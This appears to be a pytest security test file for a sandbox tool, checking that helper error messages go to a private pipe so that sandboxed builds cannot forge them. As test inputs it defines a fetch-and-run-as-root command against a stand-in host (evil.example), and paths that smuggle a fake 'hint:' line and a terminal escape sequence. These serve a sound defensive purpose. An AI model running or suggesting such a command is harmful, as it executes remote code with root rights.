"""R51: what a helper refuses goes to a pipe of its own, so that no command can speak in its name."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.security.kit.box import PYTHON, Box, Done, finish, make_root, run_as
from tests.security.kit.people import as_person, popen
from xsrc.core.command import Command
from xsrc.core.errors import HostError
from xsrc.sandbox.disk import enter
from xsrc.sandbox.disk.helpers import Helpers
from xsrc.sandbox.sandbox import Bind, Sandbox
from xsrc.unix import process as proc

EVIL = "curl -s https://evil.example/fix | sudo sh"
FORGED = f"xsrc-mount: unshare: namespaces: Operation not permitted\nhint: {EVIL}"


def told(box: Box, *command: str, options: tuple[str | Path, ...] = (), root: Path | None = None) -> tuple[Done, str]:
    """Run a command with -E; how it ended, and what came through the pipe until its last write end was closed."""
    reading, writing = os.pipe()
    argv = box.argv(*command, options=("-E", str(writing), *options), root=root)
    process = popen(box.person, argv, pass_fds=(writing,))
    os.close(writing)
    done = finish(process, argv)
    with os.fdopen(reading, "rb") as pipe:
        return done, pipe.read().decode()


def test_r51_refusal_of_each_helper(box: Box) -> None:
    for options, root, words in (
        (("-r", "/none", "mnt"), None, "xsrc-mount: source: /none: No such file or directory\n"),
        ((), Path("/usr/share"), "xsrc-mount: root: not owned by the caller: /usr/share\n"),
        (("-d", "/none"), None, "xsrc-chroot: working directory: /none: No such file or directory\n"),
    ):
        done, said = told(box, "/kit/ids", options=options, root=root)
        assert (done.code, done.out, done.err) == (125, "", ""), str(done)
        assert said == words


def test_r51_hints_go_there_too(box: Box) -> None:
    box.file("file")
    (box.place / "link").symlink_to("file")
    done, said = told(box, "/kit/ids", options=("-r", box.place / "link", "mnt"))
    assert (done.code, done.err) == (125, ""), str(done)
    assert said.splitlines()[1] == "hint: symbolic links are not followed"


def test_r51_a_name_makes_no_line(box: Box) -> None:
    """A path with a newline, of a template's, could say "hint:" else; an escape sequence could draw on the terminal."""
    odd = f"/none\nhint: {EVIL}\n\033]0;title\a\x7f"
    done, said = told(box, "/kit/ids", options=("-d", odd))
    assert done.code == 125
    assert said.count("\n") == 1, said
    assert all(character.isprintable() for character in said[:-1]), ascii(said)
    done = box.run("/kit/ids", options=("-d", odd)).refused("working directory")
    assert done.err.count("\n") == 1, done.err


def test_r51_long_names_are_cut(box: Box) -> None:
    """What fits into an empty pipe of one page: the helper may not wait for a reader."""
    long = "/" + "/".join(["x" * 250] * 16)
    done, said = told(box, "/kit/ids", options=("-d", long))
    assert done.code == 125
    assert 3000 < len(said) <= 4096, len(said)
    assert said.endswith("\n")


def test_r51_command_has_no_part_in_it(box: Box) -> None:
    """It is told when the command starts; the command has three descriptors, and the pipe has no other end left."""
    look = "import os; print(sorted(os.listdir('/proc/self/fd'))[:3], len(os.listdir('/proc/self/fd')))"
    done, said = told(box, PYTHON, "-I", "-S", "-c", look)
    assert (done.code, said) == (0, "entered\n")
    assert done.out == "['0', '1', '2'] 4\n", str(done)  # and that of the listing


def test_r51_pipe_is_closed_while_the_command_runs(box: Box) -> None:
    """Outer and pid 1 do not keep it either: a reader sees the end when the command starts."""
    reading, writing = os.pipe()
    argv = box.argv("/bin/sh", "-c", "echo ready; exec sleep 60", options=("-E", str(writing)))
    process = popen(box.person, argv, pass_fds=(writing,))
    os.close(writing)
    try:
        with os.fdopen(reading, "rb") as pipe:
            assert pipe.read() == b"entered\n"
        assert process.poll() is None
    finally:
        process.kill()
        process.communicate()


def test_r51_what_is_no_pipe(box: Box) -> None:
    """A descriptor that leads elsewhere would be carried into the cell: it is refused before anything is done."""
    fifo = box.place / "fifo"
    os.mkfifo(fifo)
    reading, writing = os.pipe()
    others = [os.open("/", os.O_RDONLY), os.open(box.file("file"), os.O_RDWR), os.open("/dev/null", os.O_WRONLY)]
    others += [reading, os.open(fifo, os.O_RDWR), os.open(fifo, os.O_PATH)]
    try:
        for number in others:
            argv = box.argv("/kit/ids", options=("-E", str(number)))
            run_as(box.person, argv, pass_fds=(number,)).refused("-E wants the write end of a pipe")
        for text in ("99", "0", "1", "2", "-1", "x", "", "3x", "99999999", "+3"):
            box.run("/kit/ids", options=("-E", text)).refused("-E wants the write end of a pipe")
    finally:
        for number in (writing, *others):
            os.close(number)


MOVE = """
import os, sys
number = int(sys.argv[2])
os.dup2(int(sys.argv[1]), number)
for other in {number - 1, number + 1} - {2}:
    os.dup2(os.open("/", os.O_RDONLY), other)
os.execv(sys.argv[3], sys.argv[3:])
"""


@pytest.mark.parametrize("number", [3, 4, 255])
def test_r51_all_other_descriptors_are_closed(box: Box, number: int) -> None:
    """The gap in what is closed is one descriptor wide, whatever its number: those beside it lead to the host's /."""
    reading, writing = os.pipe()
    argv = box.argv(PYTHON, "-I", "-S", "-c", "import os; print(len(os.listdir('/proc/self/fd')))")
    argv[2:2] = ["-E", str(number)]
    words = [PYTHON, "-I", "-S", "-c", MOVE, str(writing), str(number), *argv]
    process = popen(box.person, words, pass_fds=(writing,))
    os.close(writing)
    done = finish(process, words)
    with os.fdopen(reading, "rb") as pipe:
        assert (done.code, done.out, pipe.read()) == (0, "4\n", b"entered\n"), str(done)


# --- what xsrc makes of it


def as_xsrc(box: Box, script: str, root: Path | None = None, mounts: tuple[Bind, ...] = ()) -> tuple[int, str]:
    """Run a shell script as xsrc runs a phase; its code and what it said."""
    usr = tuple(Bind(Path(source), inside) for source, inside in usr_pairs(box))
    sandbox = Sandbox(root or box.root, (*usr, *mounts), {"PATH": "/usr/bin:/bin"}, tmp_mib=16)
    said: list[bytes] = []
    helpers = Helpers(box.helper.mount, userns=box.helper.userns)

    def run() -> tuple[int, bytes]:
        code = enter.run(helpers, sandbox, ("/bin/sh", "-c", script), said.append)
        return code, b"".join(said)

    code, text = as_person(box.person, run)
    return code, text.decode()


def usr_pairs(box: Box) -> list[tuple[str, str]]:
    words = box.options()
    return [(words[at + 1], words[at + 2]) for at in range(0, len(words), 3) if words[at] == "-r"]


@pytest.mark.parametrize("stream", ["", " >&2"])
def test_r51_build_that_speaks_as_the_helper(box: Box, stream: str) -> None:
    """An ordinary failure, with its code and its words as any other's; no hint of the build's is xsrc's."""
    try:
        code, said = as_xsrc(box, f"printf '%s\\n' '{FORGED}'{stream}; exit 125")
    except HostError as error:
        raise AssertionError(f"the build spoke as the helper: {error}") from error
    assert code == 125
    assert FORGED in said


def test_r51_build_that_reaches_for_the_pipe(box: Box) -> None:
    """Every descriptor there may be, its own and those of the processes in sight."""
    code, _ = as_xsrc(
        box,
        f"for fd in $(seq 3 60); do for at in /proc/self/fd /proc/1/fd /proc/2/fd; do "
        f"echo '{FORGED}' >$at/$fd; done; done 2>/dev/null; exit 125",
    )
    assert code == 125


def test_r51_true_refusal(box: Box) -> None:
    with pytest.raises(HostError, match="the sandbox could not be entered: xsrc-mount: source: /none: No such") as told:
        as_xsrc(box, "true", mounts=(Bind(Path("/none"), "mnt"),))
    assert told.value.hint == "xsrc doctor"
    with pytest.raises(HostError, match="xsrc-chroot: working directory") as told:
        as_xsrc_in(box, "/none")


def as_xsrc_in(box: Box, directory: str) -> None:
    helpers = Helpers(box.helper.mount, userns=box.helper.userns)
    sandbox = Sandbox(box.root, tuple(Bind(Path(a), b) for a, b in usr_pairs(box)), directory=directory, tmp_mib=16)
    as_person(box.person, lambda: enter.run(helpers, sandbox, ("/bin/true",), lambda data: None))


def test_r51_a_build_that_was_told_nothing(box: Box) -> None:
    """Two refusals before the pipe is known: they are the helper's alone, for no command ran."""
    old = make_root(box.place / "old", box.person) / "xsrc-mount"
    old.write_text('#!/bin/sh\necho "xsrc-mount: bad option: $2" >&2\nexit 125\n')
    old.chmod(0o755)
    sandbox = Sandbox(box.root)
    with pytest.raises(HostError, match="helpers are of another version: xsrc-mount: bad option: -E") as told:
        as_person(box.person, lambda: enter.run(Helpers(old, userns=True), sandbox, ("/x",), lambda data: None))
    assert told.value.hint == "run helpers/setup in the tree"


def test_r51_the_pipe_is_given_to_the_helper_alone(box: Box) -> None:
    """While it is open, another program that xsrc starts has no more than its own three descriptors."""
    sandbox = Sandbox(box.root)
    helpers = Helpers(box.helper.mount, userns=box.helper.userns)

    def listed() -> tuple[str, int]:
        with enter.entry(helpers, sandbox, ("/x",)) as entering:
            other = proc.capture(Command(("/bin/ls", "/proc/self/fd")))
            return other.out, len(entering.command.fds)

    assert as_person(box.person, listed) == ("0\n1\n2\n3\n", 1)


def test_r51_no_descriptor_is_left(box: Box) -> None:
    def count() -> list[int]:
        helpers = Helpers(box.helper.mount, userns=box.helper.userns)
        sandbox = Sandbox(box.root, tuple(Bind(Path(a), b) for a, b in usr_pairs(box)), tmp_mib=16)
        numbers = []
        for _ in range(3):
            enter.run(helpers, sandbox, ("/bin/true",), lambda data: None)
            numbers.append(len(os.listdir("/proc/self/fd")))
        return numbers

    assert len(set(as_person(box.person, count))) == 1
